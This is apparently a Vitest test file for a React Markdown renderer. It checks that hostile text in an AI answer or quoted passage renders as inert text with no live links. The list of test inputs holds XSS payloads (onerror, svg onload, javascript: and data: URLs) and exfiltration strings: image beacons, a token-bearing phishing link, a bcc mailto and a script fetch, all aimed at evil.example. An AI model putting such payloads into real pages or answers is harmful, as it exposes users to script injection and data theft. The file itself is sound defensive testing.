import { renderToStaticMarkup } from 'react-dom/server';
import { MemoryRouter } from 'react-router';
import { describe, expect, it } from 'vitest';
import { Markdown } from '../markdown.tsx';
import { Marked } from './parts/marked.tsx';

const hostile = [
  '![x](https://evil.example/p.png?d=orders)',
  '![x][1]\n\n[1]: https://evil.example/p.png',
  '[Click to verify](https://evil.example/?token=1)',
  '[our desk](mailto:thief@evil.example)',
  '<help@ours.example?bcc=thief@evil.example>',
  '[track](javascript:alert(1))',
  '[open](data:text/html;base64,PHNjcmlwdD4=)',
  '[home](//evil.example/login)',
  '[home](/\\evil.example/login)',
  '<img src=x onerror="alert(1)">',
  '<script>fetch("https://evil.example")</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><button>OK</button></form>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<a href="https://evil.example">here</a>',
  '<svg/onload=alert(1)>',
];

const draw = (text: string) =>
  renderToStaticMarkup(
    <MemoryRouter>
      <Markdown text={text} />
    </MemoryRouter>,
  );

describe('hostile text in an answer', () => {
  it.each(hostile)('loads, runs and hides nothing: %s', (text) => {
    const html = draw(`The document says: ${text}`) + draw(text);
    expect(html).not.toMatch(/<(?:img|script|iframe|form|style|svg|object|embed|link|meta|button|input)\b/i);
    expect(html).not.toMatch(/\s(?:on\w+|style|src)=/i);
    // An address elsewhere is a link only where it can be read whole, and never to anything that runs.
    for (const [, href, shown] of html.matchAll(/<a href="([^"]*)"[^>]*>(.*?)<\/a>/g)) {
      expect(href).toMatch(/^(?:https?:\/\/|mailto:[\w.+-]+@[\w.-]+$)/);
      expect(shown).toBe(href?.replace(/^mailto:/, ''));
    }
  });

  it('keeps links of our own, and addresses that show whole', () => {
    expect(draw('[the order](/order-details/1)')).toContain('<a href="/order-details/1"');
    expect(draw('<https://www.ups.com/track?n=1>')).toContain('href="https://www.ups.com/track?n=1"');
    expect(draw('Write to maya@example.com.')).toBe(
      '<div class="prose"><p>Write to <a href="mailto:maya@example.com">maya@example.com</a>.</p></div>',
    );
  });
});

describe('hostile text in a passage', () => {
  it.each(hostile)('is text and nothing else: %s', (text) => {
    const html = renderToStaticMarkup(<Marked text={text} marks={[[0, 3]]} />);
    expect(html.replace(/<\/?mark[^>]*>/g, '')).not.toContain('<');
  });
});
